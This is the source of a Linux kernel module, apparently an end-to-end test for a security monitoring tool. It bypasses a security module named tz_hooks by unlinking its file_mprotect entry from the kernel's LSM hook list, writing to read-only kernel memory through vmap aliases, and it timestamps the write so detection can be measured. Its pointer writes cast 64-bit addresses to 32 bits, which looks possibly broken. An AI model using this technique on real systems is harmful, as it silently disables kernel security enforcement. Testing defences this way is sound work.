// SPDX-License-Identifier: GPL-2.0
/*
 * e2e_unlink - hook bypass: tz_hooks' entry taken out of one LSM hook list
 * (security_hook_heads.file_mprotect by default) so the kernel stops
 * asking it, without touching tz_hooks' code. The lists are
 * __ro_after_init; the two pointers an hlist deletion changes (the
 * predecessor's next, the successor's pprev) are written through vmap()
 * aliases. The entry itself is left as it was, so exit relinks it in the
 * same place and trials repeat. security_hook_heads is not exported: its
 * address comes from System.map.
 *
 *   insmod e2e_unlink.ko heads=0x...
 *   /sys/module/e2e_unlink/parameters/attack_ns: ktime_get_ns() of the write
 */
#include <linux/lsm_hooks.h>
#include <linux/module.h>
#include <linux/string.h>
#include <linux/timekeeping.h>

#include "e2e_poke.h"

static unsigned long heads;
module_param(heads, ulong, 0400);
MODULE_PARM_DESC(heads, "address of security_hook_heads (System.map)");

static unsigned long long attack_ns;
module_param(attack_ns, ullong, 0444);
MODULE_PARM_DESC(attack_ns, "ktime_get_ns() right after the write");

static struct security_hook_list *victim;

static struct security_hook_list *e2eu_find(struct hlist_head *head)
{
	struct security_hook_list *p;

	hlist_for_each_entry(p, head, list)
		if (p->lsm && !strcmp(p->lsm, "tz_hooks"))
			return p;
	return NULL;
}

static int __init e2eu_init(void)
{
	struct security_hook_heads *h = (void *)heads;
	struct hlist_node *n;
	int err;

	if (!heads)
		return -EINVAL;
	victim = e2eu_find(&h->file_mprotect);
	if (!victim)
		return -ENOENT;
	n = &victim->list;
	err = e2e_poke_word(n->pprev, (u32)(unsigned long)n->next);
	if (!err && n->next)
		err = e2e_poke_word(&n->next->pprev, (u32)(unsigned long)n->pprev);
	if (err)
		return err;
	attack_ns = ktime_get_ns();
	pr_info("e2e_unlink: tz_hooks' file_mprotect entry unlinked (hook %ps)\n",
		victim->hook.file_mprotect);
	return 0;
}

static void __exit e2eu_exit(void)
{
	struct hlist_node *n = &victim->list;
	int err;

	err = e2e_poke_word(n->pprev, (u32)(unsigned long)n);
	if (!err && n->next)
		err = e2e_poke_word(&n->next->pprev, (u32)(unsigned long)&n->next);
	if (err)
		pr_err("e2e_unlink: entry NOT relinked\n");
	else
		pr_info("e2e_unlink: entry relinked\n");
}

module_init(e2eu_init);
module_exit(e2eu_exit);
MODULE_DESCRIPTION("tzucon e2e: tz_hooks unlinked from an LSM hook list");
MODULE_LICENSE("GPL");
